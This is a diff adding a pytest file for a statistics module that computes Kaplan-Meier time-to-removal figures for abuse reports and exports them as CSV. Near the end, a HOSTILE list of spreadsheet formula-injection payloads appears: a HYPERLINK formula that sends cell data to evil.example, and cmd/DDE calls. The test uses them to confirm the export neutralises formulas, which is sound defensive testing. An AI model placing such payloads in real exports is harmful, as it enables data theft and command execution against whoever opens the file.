@@ -1,0 +1,248 @@
+"""`ntd stats` figures (stats.figures) and their CSV (stats.export), on hand-made reports."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import statistics
+import warnings
+from datetime import UTC, datetime
+
+import numpy as np
+import pytest
+
+from stats import Columns, Record, compute, curve, kaplan_meier, to_csv
+
+HOUR, DAY = 3600.0, 86400.0
+NOW = datetime(2025, 6, 1, tzinfo=UTC).timestamp()
+FIGURES = (
+    "median_time_to_removal_s",
+    "p90_time_to_removal_s",
+    "median_time_to_removal_after_report_s",
+    "p90_time_to_removal_after_report_s",
+)
+
+
+def report(
+    *,
+    removed_after: float | None = None,
+    notified_ago: float | None = 30 * DAY,
+    state: str | None = None,
+    created_before_notice: float = HOUR,
+    seen_online=True,
+    reappearances: int = 0,
+    asn: int | None = 64500,
+    org: str | None = "Host",
+    country: str | None = "NL",
+    category: str = "A1",
+) -> Record:
+    """A report first notified ``notified_ago`` before NOW, removed ``removed_after`` later."""
+    notice = None if notified_ago is None else NOW - notified_ago
+    removed_at = None if removed_after is None else (notice or NOW - DAY) + removed_after
+    state = state or ("removed" if removed_at is not None else "online")
+    created = (notice or NOW - 40 * DAY) - created_before_notice
+    return Record(
+        created, notice, removed_at, state, seen_online, reappearances, asn, org, country, category
+    )
+
+
+def test_censoring_km_median_exceeds_the_naive_median_of_closed_cases() -> None:
+    # Six removed quickly or slowly, four still online after 50 h.
+    removed = [1, 2, 3, 4, 30, 40]
+    reports = [report(removed_after=h * HOUR, notified_ago=50 * HOUR) for h in removed]
+    reports += [report(notified_ago=50 * HOUR) for _ in range(4)]
+    figures = compute(reports, NOW, min_group=5)
+    naive = statistics.median(removed) * HOUR  # 3.5 h: pretends the online four don't exist
+    assert figures["median_time_to_removal_s"] == 30 * HOUR  # S: .9 .8 .7 .6 then .5 at 30 h
+    assert figures["median_time_to_removal_s"] > naive
+    assert figures["median_time_to_removal_s"] > statistics.mean(removed) * HOUR
+    assert figures["p90_time_to_removal_s"] is None  # S never falls to 0.1 (4 of 10 online)
+    assert figures["removed_within"] == {"24h": pytest.approx(0.4), "72h": None, "7d": None}
+
+
+def test_counts_and_who_is_in_which_sample() -> None:
+    base = [report(removed_after=h * HOUR) for h in (1, 2, 3, 4, 5)]
+    extra = [
+        report(notified_ago=None),  # queued, never notified
+        report(notified_ago=None, state="removed", removed_after=0, seen_online=False),
+        report(notified_ago=None, state="rejected", seen_online=False),
+        report(removed_after=HOUR / 2, state="closed"),  # notified, then withdrawn by staff
+        report(state="unreachable", reappearances=2),
+        report(removed_after=600.0, state="online", reappearances=1),  # came back
+    ]
+    figures = compute(base + extra, NOW, min_group=5)
+    assert (figures["total"], figures["online"], figures["removed"], figures["unreachable"]) == (
+        9,
+        2,
+        6,
+        1,
+    )
+    assert figures["notified"] == 7  # 5 removed + unreachable + reappeared; not the closed one
+    assert figures["never_seen_online"] == pytest.approx(1 / 9)
+    assert figures["reappearances"] == 3
+    # Only the notified count, and the two still up are censored at NOW (30 d of follow-up).
+    expected = kaplan_meier(
+        [h * HOUR for h in (1, 2, 3, 4, 5)] + [30 * DAY] * 2, [True] * 5 + [False] * 2
+    )
+    assert figures["median_time_to_removal_s"] == expected.quantile(0.5) == 4 * HOUR
+    assert figures["removed_within"]["24h"] == pytest.approx(5 / 7)
+    # Never-notified reports change no time-to-removal figure.
+    alone = compute(base + extra[4:], NOW, min_group=5)
+    assert all(alone[k] == figures[k] for k in (*FIGURES, "removed_within"))
+
+
+def test_after_report_figures_measure_from_created_at() -> None:
+    reports = [report(removed_after=h * HOUR, created_before_notice=10 * HOUR) for h in range(5)]
+    figures = compute(reports, NOW, min_group=5)
+    assert figures["median_time_to_removal_s"] == 2 * HOUR
+    assert figures["median_time_to_removal_after_report_s"] == 12 * HOUR
+
+
+def test_a_group_below_min_group_gets_null_figures_but_keeps_its_counts() -> None:
+    reports = [report(removed_after=HOUR, country="NL") for _ in range(5)]
+    reports += [report(removed_after=HOUR, country="DE") for _ in range(4)]
+    reports += [report(notified_ago=None, country="DE") for _ in range(10)]  # not notified
+    by_country = {e["country"]: e for e in compute(reports, NOW, min_group=5)["by_country"]}
+    assert by_country["NL"]["median_time_to_removal_s"] == HOUR
+    small = by_country["DE"]
+    assert (small["total"], small["notified"], small["min_group"]) == (14, 4, 5)
+    assert all(small[k] is None for k in FIGURES)
+    assert small["removed_within"] == {"24h": None, "72h": None, "7d": None}
+
+
+def test_months_bucket_by_utc_month_of_first_notice() -> None:
+    def at(*when) -> float:
+        return NOW - datetime(*when, tzinfo=UTC).timestamp()
+
+    reports = [
+        report(removed_after=HOUR, notified_ago=at(2025, 1, 31, 23, 59, 59)),
+        report(removed_after=HOUR, notified_ago=at(2025, 2, 1, 0, 0, 0)),
+        report(removed_after=HOUR, notified_ago=at(2025, 2, 28, 12)),
+        report(removed_after=HOUR, notified_ago=at(2024, 11, 5)),
+        report(notified_ago=None),
+    ]  # in no month
+    months = compute(reports, NOW, min_group=1)["by_month"]
+    assert [(m["month"], m["total"]) for m in months] == [
+        ("2024-11", 1),
+        ("2025-01", 1),
+        ("2025-02", 2),
+    ]  # in order, empty months left out
+
+
+def test_providers_are_asn_and_org_and_unknown_is_a_group() -> None:
+    reports = [report(removed_after=HOUR, asn=64500, org="A")] * 3
+    reports += [report(removed_after=HOUR, asn=64500, org="B")] * 2
+    reports += [report(removed_after=HOUR, asn=None, org=None, country=None)]
+    providers = compute(reports, NOW, min_group=1)["by_provider"]
+    assert [(p["asn"], p["org"], p["total"]) for p in providers] == [
+        (64500, "A", 3),
+        (64500, "B", 2),
+        (None, None, 1),
+    ]
+    assert compute(reports, NOW, min_group=1)["by_country"][-1]["country"] is None
+
+
+def test_breakdowns_agree_with_separate_fits_and_columns_with_records() -> None:
+    rng = np.random.default_rng(7)
+    reports = [
+        report(
+            removed_after=float(rng.lognormal(np.log(DAY), 1)) if rng.random() < 0.7 else None,
+            notified_ago=float(rng.uniform(1, 60)) * DAY,
+            country=str(rng.choice(["NL", "DE", "FR"])),
+            category=str(rng.choice(["A1", "B2"])),
+            asn=int(rng.integers(1, 4)),
+        )
+        for _ in range(600)
+    ]
+    reports = [
+        r._replace(state="online") if r.removed_at and r.removed_at > NOW else r for r in reports
+    ]
+    figures = compute(reports, NOW, min_group=5)
+    for entry in figures["by_country"]:
+        mine = [r for r in reports if r.country == entry["country"]]
+        removed = [r.state == "removed" for r in mine]
+        durations = [
+            (r.removed_at if r.state == "removed" else NOW) - r.first_notice_at for r in mine
+        ]
+        assert entry["median_time_to_removal_s"] == kaplan_meier(durations, removed).quantile(0.5)
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            from lifelines import KaplanMeierFitter
+
+            fitter = KaplanMeierFitter().fit(durations, removed)
+        assert entry["removed_within"]["7d"] == pytest.approx(
+            1 - fitter.survival_function_at_times(7 * DAY).iloc[0], abs=1e-9
+        )
+    columns = Columns.of(
+        **{
+            name: list(values)
+            for name, values in zip(Record._fields, zip(*reports, strict=True), strict=True)
+        }
+    )
+    assert compute(columns, NOW, min_group=5) == figures
+    json.dumps(figures)  # plain Python values only, no numpy scalars
+    assert (
+        curve(reports, NOW)
+        == kaplan_meier(
+            *zip(
+                *[
+                    (
+                        NOW - r.first_notice_at
+                        if r.state != "removed"
+                        else r.removed_at - r.first_notice_at,
+                        r.state == "removed",
+                    )
+                    for r in reports
+                ],
+                strict=True,
+            )
+        ).points()
+    )
+    assert curve(reports, NOW, group=("country", "NL"))[0] == (0.0, 1.0)
+    assert curve(reports, NOW, group=("country", "XX")) == []
+
+
+def test_no_reports_at_all() -> None:
+    figures = compute([], NOW, min_group=5)
+    assert figures["total"] == 0 and figures["never_seen_online"] is None
+    assert figures["median_time_to_removal_s"] is None and figures["by_provider"] == []
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_has_a_row_per_group_and_neutralises_formulas() -> None:
+    reports = [
+        report(removed_after=HOUR, asn=64500 + i, org=org, country=org)
+        for i, org in enumerate(HOSTILE)
+        for _ in range(5)
+    ]
+    figures = compute(reports, NOW, min_group=5)
+    rows = list(csv.DictReader(io.StringIO(to_csv(figures))))
+    assert [r["group"] for r in rows].count("provider") == len(HOSTILE)
+    assert len(rows) == 1 + len(HOSTILE) * 2 + 1 + 1  # overall, providers, countries, month, cat
+    overall = rows[0]
+    assert overall["group"] == "overall" and overall["total"] == str(len(reports))
+    assert float(overall["median_time_to_removal_s"]) == HOUR
+    assert overall["p90_time_to_removal_after_report_s"] == str(2 * HOUR)
+    orgs = {r["org"] for r in rows if r["group"] == "provider"}
+    assert orgs == {"'" + org for org in HOSTILE}
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_csv_leaves_nulls_empty_and_safe_text_alone() -> None:
+    reports = [report(removed_after=HOUR, org="Plain Host, Inc.")] * 2
+    rows = list(csv.DictReader(io.StringIO(to_csv(compute(reports, NOW, min_group=5)))))
+    provider = next(r for r in rows if r["group"] == "provider")
+    assert provider["org"] == "Plain Host, Inc." and provider["asn"] == "64500"
+    assert provider["median_time_to_removal_s"] == "" and provider["notified"] == "2"
